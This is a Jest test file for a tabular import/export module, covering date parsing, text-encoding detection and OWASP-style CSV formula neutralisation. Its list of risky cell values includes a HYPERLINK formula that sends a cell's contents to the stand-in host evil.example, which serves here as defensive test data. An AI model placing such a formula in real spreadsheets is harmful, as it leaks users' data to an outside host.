// The pure pieces of the import/export pipeline: dates as officials type them, control characters, formula
// neutralisation and its inverse, and the choice of text encoding.
import iconv from 'iconv-lite';
import { ACCEPTED_DATE_FORMATS, decodeText, decodeToUtf8, excelSerialToDate, neutraliseFormula, parseOfficialDate, restoreFormula } from '../../../src/http/tabular/index.js';

describe('parseOfficialDate', () => {
  test.each(['2026-05-31', '2026-5-31', '2026/5/31', '2026/05/31', '2026.5.31', '2026年5月31日', '2026 年 5 月 31 日', '20260531', '2026/5/31 0:00', '46173'])('when an official types %s, then it is 2026-05-31', (s) => {
    expect(parseOfficialDate(s)).toBe('2026-05-31');
  });
  test('when an Excel date cell or serial number is read, then it is the day Excel shows', () => {
    expect(parseOfficialDate(new Date(Date.UTC(2026, 4, 31)))).toBe('2026-05-31');
    expect(parseOfficialDate(46173)).toBe('2026-05-31');
    expect(parseOfficialDate(46173.75)).toBe('2026-05-31');
    expect(excelSerialToDate(1)).toBe('1900-01-01');
    expect(excelSerialToDate(61)).toBe('1900-03-01');
    expect(excelSerialToDate(60)).toBeNull(); // Excel's 1900-02-29 never existed
  });
  test.each(['2026-02-30', '2026/13/1', '31/5/2026', '五月三十一日', 'soon', '', '0', '2026年2月29日'])('when %p is given, then it is not a date', (s) => {
    expect(parseOfficialDate(s)).toBeNull();
  });
  test('the accepted forms are named for the error', () => {
    expect(ACCEPTED_DATE_FORMATS).toContain('2026年5月31日');
  });
});

describe('formula neutralisation (OWASP CSV injection)', () => {
  const risky = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '@SUM(1+1)', '+1', '-2', '\t=1', '\r=1', "'=already", "''@x"];
  test.each(risky)('when %p is exported, then it starts with a quote and the import restores it exactly', (v) => {
    const out = neutraliseFormula(v);
    expect(out[0]).toBe("'");
    expect(restoreFormula(out)).toBe(v);
  });
  test.each(['整改事项', "'plain", 'a=b', ''])('when %p is harmless, then it is written and read unchanged', (v) => {
    expect(neutraliseFormula(v)).toBe(v);
    expect(restoreFormula(v)).toBe(v);
  });
});

describe('decodeText', () => {
  const text = '编号,整改事项\nZG-1,减少行政审批事项\n';
  test('when GB18030 bytes come without a charset, then they are detected as GB18030', () => {
    expect(decodeText(iconv.encode(text, 'gb18030'), 'text/csv')).toEqual({ text, encoding: 'GB18030', encodingSource: 'detected' });
  });
  test('when UTF-8 comes with or without a BOM, then UTF-8', () => {
    expect(decodeText(Buffer.from(text), 'text/csv')).toEqual({ text, encoding: 'UTF-8', encodingSource: 'detected' });
    expect(decodeText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text)]), undefined)).toEqual({ text, encoding: 'UTF-8', encodingSource: 'bom' });
  });
  test('when UTF-16LE or BE carries its BOM, then it is decoded by the BOM', () => {
    expect(decodeText(Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')]), 'text/plain')).toMatchObject({ text, encoding: 'UTF-16LE', encodingSource: 'bom' });
    expect(decodeText(Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')]), 'text/plain')).toMatchObject({ text, encoding: 'UTF-16BE', encodingSource: 'bom' });
  });
  test('when the Content-Type names a charset, then it is honoured', () => {
    expect(decodeText(iconv.encode(text, 'gbk'), 'text/csv; charset=GBK')).toEqual({ text, encoding: 'GBK', encodingSource: 'charset' });
  });
  test('when the bytes contradict a declared UTF-8, or are neither UTF-8 nor GB18030, or the charset is unknown, then the import is refused', () => {
    expect(() => decodeText(iconv.encode(text, 'gb18030'), 'text/csv; charset=utf-8')).toThrow(/not valid UTF-8/);
    expect(() => decodeText(Buffer.from([0x41, 0xff, 0xff, 0x42]), 'text/csv')).toThrow(/neither UTF-8 nor GB18030/);
    expect(() => decodeText(Buffer.from('a'), 'text/csv; charset=klingon')).toThrow(/charset=klingon/);
  });
});

describe('decodeToUtf8 (issue 13.5: a large file is never one string next to its bytes)', () => {
  test('when the body is UTF-8, then its own bytes are read in place, without a copy (a BOM skipped)', () => {
    const buf = Buffer.from('编号,整改事项\nZG-1,减少审批\n');
    const plain = decodeToUtf8(buf, 'text/csv');
    expect(plain).toMatchObject({ encoding: 'UTF-8', encodingSource: 'detected' });
    expect(plain.bytes.buffer).toBe(buf.buffer);
    expect(plain.bytes.byteOffset).toBe(buf.byteOffset);
    const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buf]);
    const bom = decodeToUtf8(withBom, 'text/csv; charset=utf-8');
    expect(bom.bytes.buffer).toBe(withBom.buffer);
    expect(bom.bytes.toString()).toBe(buf.toString());
  });
  test('when another encoding spans several megabyte chunks, then the transcoded text equals the whole decode (characters split across chunks included)', () => {
    // Odd-length lines so that two-byte GB18030 and UTF-16 characters straddle the 1 MB chunk boundaries.
    const text = Array.from({ length: 80000 }, (_, i) => `ZG-${i},减少行政审批事项${'整'.repeat(i % 7)}`).join('\n');
    for (const [bytes, type, encoding] of [
      [iconv.encode(text, 'gb18030'), 'text/csv', 'GB18030'],
      [iconv.encode(text, 'gbk'), 'text/csv; charset=gbk', 'GBK'],
      [Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')]), 'text/plain', 'UTF-16LE'],
      [Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')]), 'text/plain', 'UTF-16BE'],
    ] as const) {
      expect(bytes.length).toBeGreaterThan(2 << 20);
      const out = decodeToUtf8(bytes, type);
      expect(out.encoding).toBe(encoding);
      expect(out.bytes.toString('utf8')).toBe(text);
    }
  });
  test('when bytes far into a large file are neither UTF-8 nor GB18030, then the file is refused', () => {
    const bytes = Buffer.concat([iconv.encode('编号,整改事项\n'.repeat(200000), 'gb18030'), Buffer.from([0x41, 0xff, 0xff, 0x42])]);
    expect(() => decodeToUtf8(bytes, 'text/csv')).toThrow(/neither UTF-8 nor GB18030/);
  });
});
